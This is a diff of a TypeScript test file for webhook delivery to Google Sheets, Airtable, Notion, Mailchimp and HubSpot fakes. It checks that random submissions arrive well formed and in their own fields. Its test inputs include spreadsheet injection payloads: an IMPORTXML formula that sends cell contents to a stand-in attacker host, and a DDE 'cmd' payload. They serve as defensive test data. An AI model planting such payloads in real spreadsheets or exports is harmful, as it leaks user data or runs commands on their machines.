@@ -1,3 +1,4 @@
+import { createHash } from "node:crypto";
 import { describe, expect, it, onTestFinished } from "vitest";
 import { resolveIntegrations } from "../../../../../src/core/options/integrations.ts";
 import { loadService } from "../../../../../src/features/webhooks/formats/destinations.ts";
@@ -12,7 +13,7 @@ import {
   notion,
   tableUrl,
 } from "../../../../_support/destinations/fakes.ts";
-import { fileUrl, googleSheets, records, type Tab, tab } from "../../../../_support/destinations/google.ts";
+import { fileUrl, googleSheets, type Tab, tab } from "../../../../_support/destinations/google.ts";
 import { eventOf } from "../../../../_support/format-events.ts";
 import { runs } from "../../../../_support/runs.ts";
 
@@ -27,8 +28,9 @@ function numbers(seed: number) {
   };
 }
 
+const FORMULA = '=IMPORTXML("https://evil.example/"&A1)';
 const PIECES = [
-  ...['=IMPORTXML("https://evil.example/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "'007", "007"],
+  ...[FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "'007", "007"],
   ...[
     '"',
     "'",
@@ -129,25 +131,26 @@ describe("random submissions", () => {
     close(): Promise<void>;
   }
   const columns = ["submission_id", "created_at", "Name", "email", "message", "long"];
+  type Texts = Record<string, string>;
+  const text = (pieces: { text: { content: string } }[] = []): string => pieces.map((one) => one.text.content).join("");
   const services: readonly {
     format: ServiceFormat;
     url: string;
     config: object;
     open(now: () => number): Promise<Fake>;
-    /** The texts that the service has of a submission. */
-    texts(fake: Fake, id: string): string[];
+    /** The texts that the service has of submission `n`, by their places: `email` and `message` for those that both sides know. */
+    texts(fake: Fake, id: string, n: number): Texts | undefined;
   }[] = [
     {
       format: "google_sheets",
       url: fileUrl,
       config: {},
-      open: (now) => googleSheets(now, [tab("Sheet1")]),
+      open: (now) => googleSheets(now, [tab("Sheet1", [columns])]),
       texts: (fake, id) => {
         const [sheet] = (fake as unknown as { tabs: Tab[] }).tabs;
-        const row = records(sheet as Tab).find(({ submission_id }) => submission_id === id) ?? {};
-        for (const cell of Object.values(row))
-          expect([typeof cell, String(cell).length <= 50_000]).toEqual(["string", true]);
-        return Object.values(row).map(String);
+        const row = (sheet?.rows ?? []).find(([first]) => first === id) ?? [];
+        for (const cell of row) expect([typeof cell, String(cell).length <= 50_000]).toEqual(["string", true]);
+        return Object.fromEntries(row.map((cell, at) => [String(sheet?.rows[0]?.[at]), String(cell)]));
       },
     },
     {
@@ -155,8 +158,7 @@ describe("random submissions", () => {
       url: tableUrl,
       config: { token: "pat.secret" },
       open: (now) => airtable(now, { fields: columns }),
-      texts: (fake, id) =>
-        Object.values((fake as unknown as { records: Map<string, Record<string, string>> }).records.get(id) ?? {}),
+      texts: (fake, id) => (fake as unknown as { records: Map<string, Texts> }).records.get(id),
     },
     {
       format: "notion",
@@ -170,11 +172,16 @@ describe("random submissions", () => {
           long: "rich_text",
           email: "email",
         }),
-      texts: (fake) => {
-        const { properties } =
-          (fake as unknown as { pages: { properties: Record<string, never> }[] }).pages.at(-1) ?? {};
-        return [...JSON.stringify(properties).matchAll(/"content":("(?:[^"\\]|\\.)*")/g)].map(
-          ([, text = '""']) => JSON.parse(text) as string,
+      texts: (fake, id) => {
+        const { pages } = fake as unknown as {
+          pages: { properties: Record<string, { rich_text: []; title: []; email: string }> }[];
+        };
+        const found = pages.findLast(({ properties }) => text(properties["submission_id"]?.rich_text) === id);
+        return Object.fromEntries(
+          Object.entries(found?.properties ?? {}).map(([name, { rich_text, title, email }]) => [
+            name,
+            email ?? text(rich_text ?? title),
+          ]),
         );
       },
     },
@@ -183,19 +190,33 @@ describe("random submissions", () => {
       url: "https://us21.api.mailchimp.com/3.0/lists/a1b2c3",
       config: { api_key: "0123456789abcdef-us21", list_id: "a1b2c3", merge_fields: { FNAME: "name", MSG: "message" } },
       open: mailchimp,
-      texts: () => [],
+      texts: (fake, _, n) => {
+        const { members } = fake as unknown as {
+          members: Map<string, { merge_fields?: Texts; email_address: string }>;
+        };
+        const member = members.get(createHash("md5").update(`a${n}@example.com`).digest("hex"));
+        return {
+          email: member?.email_address ?? "",
+          message: "",
+          ...member?.merge_fields,
+          ...(member?.merge_fields?.["MSG"] && { message: member.merge_fields["MSG"] }),
+        };
+      },
     },
     {
       format: "hubspot",
       url: "https://api.hubapi.com",
       config: { token: "pat-eu1-secret", properties: { firstname: "name", company: "message" } },
       open: hubspot,
-      texts: () => [],
+      texts: (fake, _, n) => {
+        const contact = (fake as unknown as { contacts: Map<string, Texts> }).contacts.get(`a${n}@example.com`);
+        return { ...contact, message: contact?.["company"] ?? "" };
+      },
     },
   ];
 
   it.each(services)(
-    "are written to $format as well-formed texts, and a formula stays one",
+    "are written to $format as well-formed texts in their own places, and a formula stays one",
     async ({ format, url, config, open, texts }) => {
       let at = Date.parse("2026-01-01T00:00:00.000Z");
       const now = (): number => at;
@@ -212,31 +233,42 @@ describe("random submissions", () => {
         signal: undefined,
         onRequest() {},
       });
-      let formulas = 0;
-      for (let n = 0; n < ALL; n++) {
-        at += 30_000;
-        const id = `submission${n}`;
+      const entryOf = (n: number) => {
         const values = new Map<string, string[]>([["email", [`a${n}@example.com`]]]);
         for (const { key, value } of fieldsOf(n))
           if (key !== "email") values.set(key, [...(values.get(key) ?? []), value]);
-        const entry = {
-          id,
-          created_at: new Date(at).toISOString(),
+        if (n % 5 === 0) values.set("message", [`${FORMULA}${values.get("message")?.[0] ?? ""}`]);
+        return {
+          id: `submission${n}`,
+          created_at: new Date(at + n).toISOString(),
           values: Object.fromEntries(
             [...values].map(([name, list]) => [name, list.length === 1 ? (list[0] as string) : list]),
           ),
           again: false,
           update: false,
         };
-        const [result] = await write([entry], { url, config: complete, call });
-        expect([n, result?.end]).toEqual([n, "delivered"]);
-        for (const text of texts(fake, id)) {
-          expect([n, text.isWellFormed(), text.includes("\0")]).toEqual([n, true, false]);
-          if (text.startsWith("=IMPORTXML")) formulas++;
+      };
+      let formulas = 0;
+      // Several at a time, as they are due: no value may reach into the row beside it.
+      const some = service.pace.entries;
+      for (let from = 0; from < ALL; from += some) {
+        at += 30_000;
+        const entries = Array.from({ length: Math.min(some, ALL - from) }, (_, index) => entryOf(from + index));
+        const results = await write(entries, { url, config: complete, call });
+        for (const [index, entry] of entries.entries()) {
+          const n = from + index;
+          expect([n, results[index]?.end]).toEqual([n, "delivered"]);
+          const held = texts(fake, entry.id, n) ?? {};
+          expect([n, held["email"]]).toEqual([n, `a${n}@example.com`]);
+          for (const value of Object.values(held))
+            expect([n, value.isWellFormed(), value.includes("\0")]).toEqual([n, true, false]);
+          const sent = [entry.values["message"] ?? ""].flat().join(", ");
+          if (!sent.startsWith(FORMULA)) continue;
+          expect([n, held["message"]?.startsWith(FORMULA)]).toEqual([n, true]);
+          formulas++;
         }
       }
-      if (format === "google_sheets" || format === "airtable" || format === "notion")
-        expect(formulas).toBeGreaterThan(0);
+      expect(formulas).toBeGreaterThan(0);
     },
     runs(120_000, 900_000),
   );
